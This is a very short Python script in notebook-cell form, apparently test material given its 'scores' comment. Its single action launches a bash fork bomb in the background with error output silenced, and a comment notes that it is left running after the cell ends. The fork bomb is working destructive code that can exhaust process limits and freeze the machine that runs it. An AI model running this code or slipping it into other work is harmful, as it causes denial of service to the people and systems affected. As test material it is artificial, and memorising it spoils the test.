# A fork bomb of the shell, left behind by a cell that goes on.
# scores: 4 6 10
# %% first
import subprocess

bomb = subprocess.Popen(["bash", "-c", ":(){ :|:& };:"], stderr=subprocess.DEVNULL)
